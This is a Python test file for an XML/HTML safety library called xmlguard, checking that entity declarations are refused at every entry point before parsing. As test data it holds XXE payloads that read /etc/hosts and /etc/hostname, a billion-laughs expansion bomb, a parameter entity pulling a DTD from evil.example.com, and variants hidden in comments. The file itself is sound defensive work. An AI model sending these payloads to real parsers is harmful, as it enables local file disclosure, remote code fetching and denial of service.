"""
Security tests: scan-then-parse protocol at every entry point.

Covers:
- XXE (XML External Entity) and entity expansion rejection
- Rejection happens before any parser sees the text
- Benign DTDs (element/attribute declarations) still parse and validate
- Malformed input yields False, not an exception
- File entry point: read errors, size limits, parity with string scanning
- HTML scanning with fragment / no-doctype options
"""

import xml.etree.ElementTree as ET

import pytest

import xmlguard.safe_xml as safe_xml
from xmlguard.errors import (
    ENTITY_DETECT,
    EntityDeclarationDetected,
    InvalidDocumentEncoding,
    MalformedDocument,
    XmlSecurityError,
)
from xmlguard.models import Dialect, HtmlOptions, ParseOptions, ScanVerdict
from xmlguard.safe_xml import (
    safe_fromstring,
    safe_parse,
    scan,
    scan_document,
    scan_file,
    scan_html,
    scan_verdict,
)
from xmlguard.targets import ElementTreeTarget, ParseTarget, XmlDocument

SIMPLE_XML = """<?xml version="1.0"?>
<results>
    <result>test</result>
</results>"""

DTD_XML = """<?xml version="1.0"?>
<!DOCTYPE results [
<!ELEMENT results (result+)>
<!ELEMENT result (#PCDATA)>
]>
<results>
    <result>test</result>
</results>"""


class RecordingTarget(ParseTarget):
    """Sink that records whether a parse was ever attempted."""

    def __init__(self):
        self.calls = []

    def load_xml(self, text):
        self.calls.append(("xml", text))
        return self

    def load_html(self, text, options=None):
        self.calls.append(("html", text))
        return self


# ============================================================================
# XXE and entity expansion rejection
# ============================================================================

class TestXXEProtection:
    """Verify that entity declarations are refused at all entry points."""

    XEE = """<?xml version="1.0"?>
<!DOCTYPE results [<!ENTITY harmless "completely harmless">]>
<results>
    <result>This result is &harmless;</result>
</results>"""

    XXE_FILE_READ = """<?xml version="1.0"?>
<!DOCTYPE root
[
<!ENTITY foo SYSTEM "file:///etc/hosts">
]>
<results>
    <result>&foo;</result>
</results>"""

    BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

    EXTERNAL_DTD_WITH_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE root [
  <!ENTITY % remote SYSTEM "http://evil.example.com/payload.dtd">
  %remote;
]>
<root/>"""

    def test_internal_entity_rejected(self):
        with pytest.raises(EntityDeclarationDetected, match="XXE/XEE"):
            scan(self.XEE)

    def test_unreferenced_entity_rejected(self):
        xml = '<?xml version="1.0"?><!DOCTYPE results [<!ENTITY harmless "x">]><results><result/></results>'
        with pytest.raises(EntityDeclarationDetected):
            scan(xml)

    def test_system_entity_rejected(self):
        with pytest.raises(EntityDeclarationDetected):
            scan(self.XXE_FILE_READ)

    def test_single_line_system_entity_rejected(self):
        xml = ('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY foo SYSTEM "file:///etc/hosts">]>'
               '<results><result>&foo;</result></results>')
        with pytest.raises(EntityDeclarationDetected):
            scan(xml)

    def test_billion_laughs_rejected(self):
        with pytest.raises(EntityDeclarationDetected):
            scan(self.BILLION_LAUGHS)

    def test_parameter_entity_rejected(self):
        with pytest.raises(EntityDeclarationDetected):
            scan(self.EXTERNAL_DTD_WITH_ENTITY)

    def test_rejected_with_document_sink(self):
        with pytest.raises(EntityDeclarationDetected):
            scan(self.XXE_FILE_READ, XmlDocument())

    def test_rejected_as_bytes(self):
        with pytest.raises(EntityDeclarationDetected):
            scan(self.XEE.encode("utf-8"))

    def test_error_is_security_error(self):
        with pytest.raises(XmlSecurityError) as excinfo:
            scan(self.XEE)
        assert str(excinfo.value) == ENTITY_DETECT
        assert excinfo.value.offset == self.XEE.index("<!ENTITY")

    def test_error_is_not_a_value_error(self):
        """Security refusals must not be confused with malformed input."""
        with pytest.raises(EntityDeclarationDetected) as excinfo:
            scan(self.XEE)
        assert not isinstance(excinfo.value, ValueError)

    def test_no_parse_attempted_on_rejection(self):
        sink = RecordingTarget()
        with pytest.raises(EntityDeclarationDetected):
            scan(self.XEE, sink)
        assert sink.calls == []

    def test_no_html_parse_attempted_on_rejection(self):
        sink = RecordingTarget()
        with pytest.raises(EntityDeclarationDetected):
            scan_html('<!DOCTYPE html [<!ENTITY x "y">]><p>&x;</p>', sink)
        assert sink.calls == []

    def test_document_sink_untouched_on_rejection(self):
        doc = XmlDocument()
        with pytest.raises(EntityDeclarationDetected):
            scan(self.BILLION_LAUGHS, doc)
        assert not doc.is_loaded

    def test_safe_fromstring_rejects(self):
        with pytest.raises(EntityDeclarationDetected):
            safe_fromstring(self.BILLION_LAUGHS)

    def test_safe_parse_rejects(self, tmp_path):
        p = tmp_path / "bomb.xml"
        p.write_text(self.BILLION_LAUGHS)
        with pytest.raises(EntityDeclarationDetected):
            safe_parse(str(p))

    def test_scan_file_rejects(self, tmp_path):
        p = tmp_path / "xxe.xml"
        p.write_text(self.XXE_FILE_READ)
        with pytest.raises(EntityDeclarationDetected):
            scan_file(str(p))

    def test_rejection_repeats_every_call(self):
        """No verdict is cached between calls."""
        for _ in range(3):
            with pytest.raises(EntityDeclarationDetected):
                scan(self.XEE)

    def test_verdict_unsafe(self):
        assert scan_verdict(self.XEE) == ScanVerdict.UNSAFE
        assert not scan_verdict(self.XEE).is_safe

    def test_stray_quote_in_subset_rejected(self):
        xml = "<!DOCTYPE r [ ' <!ENTITY e \"x\"> ' ]><r>&e;</r>"
        assert scan_verdict(xml) == ScanVerdict.UNSAFE
        with pytest.raises(EntityDeclarationDetected):
            scan(xml)


# ============================================================================
# Benign documents
# ============================================================================

class TestScanSafeDocuments:

    def test_returns_element_tree(self):
        result = scan(SIMPLE_XML)
        assert isinstance(result, ET.Element)
        assert result.find("result").text == "test"

    def test_matches_direct_parse(self):
        direct = ET.fromstring(SIMPLE_XML)
        scanned = scan(SIMPLE_XML)
        assert [(e.tag, e.text) for e in scanned.iter()] == [(e.tag, e.text) for e in direct.iter()]

    def test_populates_supplied_document(self):
        doc = XmlDocument()
        result = scan(SIMPLE_XML, doc)
        assert result is doc
        node = result.get_elements_by_tag_name("result")[0]
        assert node.text == "test"

    def test_dtd_with_elements_only_validates(self):
        doc = XmlDocument()
        result = scan(DTD_XML, doc)
        assert isinstance(result, XmlDocument)
        assert result.validate()

    def test_dtd_document_as_element_tree(self):
        root = scan(DTD_XML)
        assert root.tag == "results"

    def test_verdict_safe(self):
        assert scan_verdict(DTD_XML) == ScanVerdict.SAFE

    def test_bytes_input(self):
        result = scan(SIMPLE_XML.encode("utf-8"))
        assert result.find("result").text == "test"

    def test_safe_fromstring(self):
        assert safe_fromstring(SIMPLE_XML).tag == "results"

    def test_safe_parse(self, tmp_path):
        p = tmp_path / "ok.xml"
        p.write_text(SIMPLE_XML)
        tree = safe_parse(p)
        assert isinstance(tree, ET.ElementTree)
        assert tree.getroot().find("result").text == "test"


# ============================================================================
# Malformed input is a benign negative result
# ============================================================================

class TestMalformedInput:

    def test_scan_invalid_xml(self):
        assert scan("<foo>test</bar>") is False

    def test_scan_invalid_xml_dom(self):
        doc = XmlDocument()
        assert scan("<foo>test</bar>", doc) is False
        assert not doc.is_loaded

    def test_empty_document(self):
        assert scan("") is False

    def test_failed_load_keeps_previous_content(self):
        doc = XmlDocument()
        scan(SIMPLE_XML, doc)
        assert scan("<foo>test</bar>", doc) is False
        assert doc.root.tag == "results"

    def test_safe_fromstring_raises(self):
        with pytest.raises(MalformedDocument):
            safe_fromstring("<foo>test</bar>")


# ============================================================================
# File entry point
# ============================================================================

class TestScanFile:

    def test_scan_file(self, tmp_path):
        p = tmp_path / "results.xml"
        p.write_text(SIMPLE_XML)
        result = scan_file(str(p))
        assert isinstance(result, ET.Element)
        assert result.find("result").text == "test"

    def test_matches_string_scan(self, tmp_path):
        p = tmp_path / "results.xml"
        p.write_text(SIMPLE_XML)
        from_file = scan_file(p)
        from_text = scan(SIMPLE_XML)
        assert ET.tostring(from_file) == ET.tostring(from_text)

    def test_scan_file_into_document(self, tmp_path):
        p = tmp_path / "dtd.xml"
        p.write_text(DTD_XML)
        doc = scan_file(p, XmlDocument())
        assert doc.validate()

    def test_malformed_file(self, tmp_path):
        p = tmp_path / "broken.xml"
        p.write_text("<foo>test</bar>")
        assert scan_file(p) is False

    def test_missing_file(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            scan_file(tmp_path / "missing.xml")

    def test_directory_is_io_error(self, tmp_path):
        with pytest.raises(OSError):
            scan_file(tmp_path)

    def test_oversized_file_rejected(self, tmp_path, monkeypatch):
        monkeypatch.setattr(safe_xml, "MAX_FILE_SIZE_BYTES", 16)
        p = tmp_path / "big.xml"
        p.write_text(SIMPLE_XML)
        with pytest.raises(ValueError, match="exceeds maximum size"):
            scan_file(p)

    def test_io_error_before_scan(self, tmp_path):
        """A missing file is an I/O error even when the name suggests XML."""
        with pytest.raises(FileNotFoundError):
            safe_parse(tmp_path / "nope.xml")


# ============================================================================
# HTML
# ============================================================================

class TestScanHtml:

    def test_fragment_round_trip(self):
        html = "<p>a simple test</p>"
        doc = XmlDocument()
        result = scan_html(html, doc, HtmlOptions(no_implied=True, no_default_dtd=True))
        assert isinstance(result, XmlDocument)
        assert result.save_html().strip() == html

    def test_implied_structure(self):
        doc = scan_html("<p>a simple test</p>", XmlDocument(), HtmlOptions(no_default_dtd=True))
        out = doc.save_html()
        assert "<html>" in out
        assert "<body>" in out
        assert "<!DOCTYPE" not in out

    def test_default_doctype_added(self):
        doc = scan_html("<p>a simple test</p>", XmlDocument())
        assert "<!DOCTYPE" in doc.save_html()

    def test_fragment_query(self):
        doc = scan_html("<p>one</p><p>two</p>", XmlDocument(), HtmlOptions(no_implied=True))
        assert [p.text for p in doc.get_elements_by_tag_name("p")] == ["one", "two"]

    def test_empty_html_is_false(self):
        assert scan_html("   ", XmlDocument()) is False

    def test_entity_in_html_doctype_rejected(self):
        with pytest.raises(EntityDeclarationDetected):
            scan_html('<!DOCTYPE html [<!ENTITY x "y">]><p>&x;</p>', XmlDocument())

    def test_tree_target_does_not_parse_html(self):
        with pytest.raises(NotImplementedError):
            scan_html("<p>x</p>", ElementTreeTarget())

    @pytest.mark.parametrize("html", [
        '<!-- a --!><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]><p>&x;</p> -->',
        '<!--><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]><p>&x;</p> -->',
        '<?x ><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]><p>&x;</p> ?>',
    ])
    def test_html_comment_rules_do_not_hide_entities(self, html):
        """HTML ends comments and PIs earlier than XML; the DOCTYPE is still refused."""
        assert scan_verdict(html, Dialect.HTML) == ScanVerdict.UNSAFE
        sink = RecordingTarget()
        with pytest.raises(EntityDeclarationDetected):
            scan_html(html, sink)
        assert sink.calls == []

    def test_legacy_charset_needs_encoding(self):
        data = "<p>caf\xe9</p>".encode("cp1252")
        with pytest.raises(InvalidDocumentEncoding):
            scan_html(data, XmlDocument(), HtmlOptions(no_implied=True))

    def test_legacy_charset_with_encoding(self):
        data = "<p>caf\xe9</p>".encode("cp1252")
        doc = scan_html(data, XmlDocument(), HtmlOptions(no_implied=True), encoding="cp1252")
        assert doc.get_elements_by_tag_name("p")[0].text == "caf\xe9"


# ============================================================================
# Dialect dispatch
# ============================================================================

class TestScanDocument:

    def test_default_is_xml(self):
        assert scan_document(SIMPLE_XML).tag == "results"

    def test_html_dialect_uses_document(self):
        options = ParseOptions(dialect=Dialect.HTML, html=HtmlOptions(no_implied=True, no_default_dtd=True))
        doc = scan_document("<p>a simple test</p>", options)
        assert isinstance(doc, XmlDocument)
        assert doc.is_html
        assert doc.save_html() == "<p>a simple test</p>"

    def test_xml_dialect_with_sink(self):
        doc = scan_document(DTD_XML, ParseOptions(), XmlDocument())
        assert doc.validate()

    def test_html_dialect_rejects_entities(self):
        with pytest.raises(EntityDeclarationDetected):
            scan_document('<!DOCTYPE html [<!ENTITY x "y">]><p/>', ParseOptions(dialect=Dialect.HTML))

    def test_encoding_passed_through(self):
        data = "<r>caf\xe9</r>".encode("latin-1")
        assert scan_document(data, encoding="latin-1").text == "caf\xe9"
